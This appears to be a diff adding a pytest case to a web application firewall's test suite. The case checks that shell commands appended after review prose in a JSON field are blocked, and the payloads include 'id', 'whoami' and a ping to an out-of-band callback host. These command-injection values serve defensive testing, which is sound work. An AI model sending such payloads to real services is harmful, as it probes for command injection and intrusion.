@@ -324,3 +324,15 @@ def test_text_parts_past_max_value_get_the_oversize_policy(guard: WAFGuard) -> N
     assert not oversized(guard, request(body=image, content_type="multipart/form-data; boundary=b"))
     prefix = WAFGuard(WAFConfig(oversize="inspect_prefix"))
     assert not oversized(prefix, request(body=text_file, content_type="multipart/form-data; boundary=b"))
+
+
+@pytest.mark.parametrize("lead", [1, 30])
+def test_a_command_after_prose_is_read_whatever_the_prose(guard: WAFGuard, lead: int) -> None:
+    # a shell fails on the prose line by line and runs the command after it (seventeenth unseen set)
+    prose = "The tram stop is two minutes away, which made getting around very easy. " * lead
+    for payload in ["\n\nid", "\n\n; ping -c 1 6jj6b3xydseo.oast.online", "\nwhoami"]:
+        body = json.dumps({"review": prose + payload})
+        assert blocked(guard, request(body=body, content_type="application/json")), payload
+    for ordinary in ["\n\nPlease use the id on the booking.", "\n\nP.S. the oast.online docs; nslookup helped"]:
+        body = json.dumps({"review": prose + ordinary})
+        assert not blocked(guard, request(body=body, content_type="application/json")), ordinary
